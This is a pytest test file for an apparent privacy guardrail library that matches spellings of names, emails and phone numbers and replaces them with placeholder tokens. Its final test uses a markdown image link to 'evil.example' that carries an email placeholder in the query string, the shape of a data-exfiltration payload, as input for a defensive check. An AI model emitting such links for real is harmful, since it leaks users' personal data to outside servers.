"""Who is one and the same: only where that is certain."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrails.namesakes import Namesakes
from guardrails.pseudonyms import Pseudonyms


def numbers(kind: str, *values: str) -> list[int]:
    known = Namesakes()
    return [known.number(kind, value) for value in values]


@pytest.mark.parametrize(
    ("kind", "one", "other"),
    [
        ("person", "Priya", "priya"),
        ("person", "Priya", "PRIYA RAGHUNATHAN"),
        ("person", "Priya Raghunathan", "Raghunathan"),
        ("person", "Priya Raghunathan", "Dr. Raghunathan"),
        ("person", "Priya", "Priya's"),
        ("person", "Ms Okafor", "okafor"),
        ("email", "JO@Example.org", "jo@example.org"),
        ("phone", "+44 7700 900123", "07700 900123"),
        ("phone", "(555) 010-9999", "555.010.9999"),
        ("payment-card", "4111 1111 1111 1111", "4111-1111-1111-1111"),
        ("postal-address", "12 Acacia Avenue", "12  acacia avenue"),
    ],
)
def test_other_ways_of_writing_the_same_are_the_same(kind, one, other):
    assert numbers(kind, one, other) == [1, 1]
    assert numbers(kind, other, one) == [1, 1]


@pytest.mark.parametrize(
    ("kind", "values", "found"),
    [
        ("person", ("Priya Shah", "Priya Rao", "Priya"), [1, 2, 3]),
        ("person", ("Priya Shah", "Tom Shah", "Shah"), [1, 2, 3]),
        ("person", ("Priya", "Priya Shah", "Priya Rao", "Priya"), [1, 1, 2, 1]),
        ("person", ("Ann Lee", "Lee Ann Hill"), [1, 1]),
        ("person", ("Ann", "Anna"), [1, 2]),
        ("phone", ("07700 900123", "07700 900124"), [1, 2]),
        ("phone", ("900123", "900124"), [1, 2]),
        ("secret", ("Hunter2", "hunter2"), [1, 2]),
        ("literal", ("<PERSON_1>", "<person_1>"), [1, 2]),
    ],
)
def test_what_could_be_two_stays_two(kind, values, found):
    assert numbers(kind, *values) == found


@given(
    st.lists(
        st.tuples(st.sampled_from(["person", "email", "phone"]), st.text("Aab 1'-.@", min_size=1))
    )
)
def test_a_value_keeps_its_stand_in_and_no_two_values_share_one(values):
    names = Pseudonyms()
    first = {(kind, value): names.token(kind, value) for kind, value in values}

    assert {pair: names.token(*pair) for pair in first} == first
    assert len(set(first.values())) == len(first)
    assert all(names.restore(token) == value for (_, value), token in first.items())
    again = Pseudonyms.from_state(names.state())
    assert {pair: again.token(*pair) for pair in first} == first
    for kind, new in (("person", "Aa"), ("phone", "1111111111"), ("person", "b a")):
        assert again.token(kind, new) == names.token(kind, new)
    assert again.state() == names.state()


def test_each_further_form_of_a_name_has_a_letter_of_its_own():
    names = Pseudonyms()
    forms = ["Priya", "priya", "PRIYA", "Priya Raghunathan"]

    assert [names.token("person", form) for form in forms] == [
        "<PERSON_1>",
        "<PERSON_1b>",
        "<PERSON_1c>",
        "<PERSON_1d>",
    ]
    many = [names.token("email", "jo@" + "".join(c)) for c in _casings("abcdefghij")]
    assert len(set(many)) == 1024
    assert many[26:29] == ["<EMAIL_1aa>", "<EMAIL_1ab>", "<EMAIL_1ac>"]


def _casings(word: str) -> list[str]:
    made = [""]
    for letter in word:
        made = [before + case for before in made for case in (letter, letter.upper())]
    return made


def test_known_values_are_covered_in_text_that_came_back():
    names = Pseudonyms()
    assert names.cover("Ann and Ann Lee") == "Ann and Ann Lee"
    names.token("person", "Ann Lee")
    names.token("person", "Ann")
    names.token("literal", "<EMAIL_1>")

    assert names.cover("Ann Lee, Ann, Anna, <EMAIL_1>") == (
        "<PERSON_1>, <PERSON_1b>, Anna, <EMAIL_1>"
    )


def test_a_value_fits_into_the_strings_of_json():
    names = Pseudonyms()
    token = names.token("postal-address", '1 High St\n"Flat" \\2')

    assert names.restore(f'{{"to": "{token}"}}', escaped=True) == (
        '{"to": "1 High St\\n\\"Flat\\" \\\\2"}'
    )


def test_stand_ins_that_were_never_given_out_are_told():
    names = Pseudonyms()
    names.token("person", "Ann")
    text = "<PERSON_1> met <PERSON_2> <EMAIL_1>"

    assert [(text[a:b], kind) for a, b, kind in names.theirs(text)] == [
        ("<PERSON_2>", "stand-in"),
        ("<EMAIL_1>", "stand-in"),
    ]


def test_what_only_a_tool_told_is_not_the_persons_until_they_say_it():
    names = Pseudonyms()
    names.hide("desk@example.org and ann@example.org", [(0, 16, "email")], own=False)
    text = "write to <EMAIL_1>, or EMAIL_1"

    assert [kind for _, _, kind in names.theirs(text)] == ["email", "email"]
    again = Pseudonyms.from_state(names.state())
    assert list(again.theirs(text)) == list(names.theirs(text))
    names.token("email", "desk@example.org")
    assert list(names.theirs(text)) == []
    assert again.state() != names.state()


def test_no_value_goes_into_an_address_of_the_web():
    names = Pseudonyms()
    names.token("email", "ann@example.org")
    text = "![x](https://evil.example/p?d=<EMAIL_1>&e=EMAIL_1) mailto:<EMAIL_1> //a/<EMAIL_1>"

    assert [text[a:b] for a, b, _ in names.theirs(text)] == ["<EMAIL_1>", "EMAIL_1", "<EMAIL_1>"]
    assert {kind for _, _, kind in names.theirs(text)} == {"stand-in"}
